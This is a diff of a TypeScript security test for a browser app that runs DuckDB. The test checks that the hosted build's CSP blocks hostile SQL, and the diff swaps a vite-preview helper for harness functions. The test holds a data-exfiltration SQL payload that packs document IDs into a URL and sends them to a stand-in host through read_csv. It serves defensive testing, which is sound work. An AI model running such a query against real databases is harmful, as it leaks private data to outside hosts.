@@ -10,7 +10,6 @@
  *   the app works afterwards;
  * - DELETE / DROP / ATTACH / COPY / INSTALL change no view's figures.
  */
-import { spawn, type ChildProcess } from 'node:child_process'
 import { mkdtempSync, rmSync } from 'node:fs'
 import { createServer, type Server } from 'node:http'
 import type { AddressInfo } from 'node:net'
@@ -18,7 +17,7 @@ import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { pathToFileURL } from 'node:url'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
-import { buildApp, launch, ROOT, waitForDb, type Page } from './harness'
+import { buildApp, hostedBuild, launch, previewApp, waitForDb, type AppServer, type Page } from './harness'
 import { blockNetwork, checkComparePivot, runSql, watchProblems, type Problems } from './offline-helpers'
 
 /** A server on another port, standing in for another host: it counts every request it gets. */
@@ -27,28 +26,6 @@ async function otherHost(): Promise<{ port: number; hits: string[]; close(): Pro
   const server: Server = createServer((req, res) => { hits.push(req.url ?? ''); res.end('a,b\n1,2\n') })
   await new Promise<void>((ok) => server.listen(0, '127.0.0.1', ok))
   return { port: (server.address() as AddressInfo).port, hits, close: () => new Promise((ok) => server.close(() => ok())) }
-}
-
-/** A free port on 127.0.0.1. */
-async function freePort(): Promise<number> {
-  const s = createServer()
-  await new Promise<void>((ok) => s.listen(0, '127.0.0.1', ok))
-  const { port } = s.address() as AddressInfo
-  await new Promise((ok) => s.close(ok))
-  return port
-}
-
-/** `vite preview` of a build folder, as a person hosting dist/ would run it. */
-async function preview(dist: string): Promise<{ url: string; stop(): void }> {
-  const port = await freePort()
-  const child: ChildProcess = spawn(join(ROOT, 'node_modules', '.bin', 'vite'), ['preview', '--outDir', dist, '--port', String(port), '--strictPort', '--host', '127.0.0.1'], { cwd: ROOT, stdio: 'pipe' })
-  const url = `http://127.0.0.1:${port}/`
-  for (let i = 0; i < 300; i++) {
-    if (await fetch(url).then((r) => r.ok, () => false)) return { url, stop: () => child.kill() }
-    await new Promise((ok) => setTimeout(ok, 100))
-  }
-  child.kill()
-  throw new Error('vite preview did not start')
 }
 
 const exfiltration = (port: number) => `SET VARIABLE u=(SELECT 'http://127.0.0.1:${port}/x.csv?d='||string_agg(doc_id,'_') FROM documents); SELECT * FROM read_csv(getvariable('u'))`
@@ -95,8 +72,8 @@ async function refused(page: Page, sql: string): Promise<string> {
 }
 
 describe('hosted build (vite preview, CSP header)', () => {
-  let dist: string
-  let server: { url: string; stop(): void }
+  let build: ReturnType<typeof hostedBuild>
+  let server: AppServer
   let other: Awaited<ReturnType<typeof otherHost>>
   let chromium: Awaited<ReturnType<typeof launch>>
   let page: Page
@@ -104,9 +81,8 @@ describe('hosted build (vite preview, CSP header)', () => {
   const workerCsp: string[] = []
 
   beforeAll(async () => {
-    dist = mkdtempSync(join(tmpdir(), 'kanzhang-sec-'))
-    buildApp(dist)
-    server = await preview(dist)
+    build = hostedBuild()
+    server = await previewApp(build.dir)
     other = await otherHost()
     chromium = await launch()
     problems = watchProblems(chromium.browser, new URL(server.url).host)
@@ -118,9 +94,9 @@ describe('hosted build (vite preview, CSP header)', () => {
 
   afterAll(async () => {
     await chromium?.close()
-    server?.stop()
+    await server?.close()
     await other?.close()
-    if (dist) rmSync(dist, { recursive: true, force: true })
+    build?.remove()
   })
 
   it('sends the CSP header with DuckDB’s worker script, so the worker is held to it too', () => {
@@ -201,7 +177,8 @@ describe('hosted build (vite preview, CSP header)', () => {
     // Reset gives a fresh copy of the app's data.
     await page.goto(server.url + '#/workbench')
     await page.click('[data-testid="reset-copy"]')
-    expect(Number((await runSql(page, 'SELECT count(*) AS n FROM line_items')).trim())).toBeGreaterThan(1000)
+    // The 1,763 rows of data/dataset/line_items.csv.
+    expect(Number((await runSql(page, 'SELECT count(*) AS n FROM line_items')).trim())).toBe(1763)
     expect(problems.foreign).toEqual([])
   })
 })
